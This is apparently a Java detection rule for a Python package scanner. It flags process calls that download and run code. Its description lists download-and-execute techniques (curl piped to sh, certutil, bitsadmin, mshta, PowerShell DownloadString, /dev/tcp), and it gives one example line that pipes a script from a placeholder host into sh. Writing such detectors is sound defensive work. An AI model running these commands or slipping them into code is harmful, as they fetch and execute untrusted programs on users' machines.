package dev.kingsnake.rules.process;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.Commands;
import dev.kingsnake.spi.facts.DataFlow;
import dev.kingsnake.spi.python.Expr;

import java.util.Set;

/** A shell command that downloads and runs something (curl|sh, certutil, bitsadmin, mshta...). */
public final class DownloadAndRunCommandRule implements PythonFileRule {
    static final RuleInfo INFO = new RuleInfo("KS-PROCESS-DOWNLOAD-EXEC",
            "Starts a command that downloads and runs a program or script (curl|sh, wget -O- | bash, "
                    + "certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/rundll32 with URLs, "
                    + "PowerShell DownloadString, /dev/tcp)",
            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.PROCESS, Tags.DOWNLOAD, Tags.STRONG),
            "os.system('curl -s https://example.invalid/i.sh | sh')",
            "Installer scripts of developer tools sometimes pipe curl into sh; inside a Python package "
                    + "this is rare. Matches only the command text that is really passed to a process call "
                    + "(constant-folded, or rebuilt from its literal pieces). Commands whose text comes from a "
                    + "network response are HIGH/MEDIUM.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        DataFlow facts = DataFlow.of(file);
        for (Expr.Call c : file.calls()) {
            Commands.of(facts, c).ifPresent(cmd -> {
                String m = cmd.find(Commands.DOWNLOAD_EXEC);
                if (m != null) {
                    sink.report(Location.of(file, c), cmd.sink() + "() downloads and runs: " + m, cmd.evidence());
                } else if (cmd.taint().contains(DataFlow.Taint.FETCHED) && !cmd.benign()) {
                    // fetched from a URL; values from a socket the program holds (its own port, a peer's reply)
                    // are the remote-command rule's to judge
                    sink.report(Location.of(file, c), cmd.sink() + "() runs a command or program fetched from the "
                            + "network", file.line(c.line()).strip(), Severity.HIGH, Confidence.MEDIUM);
                }
            });
        }
    }
}
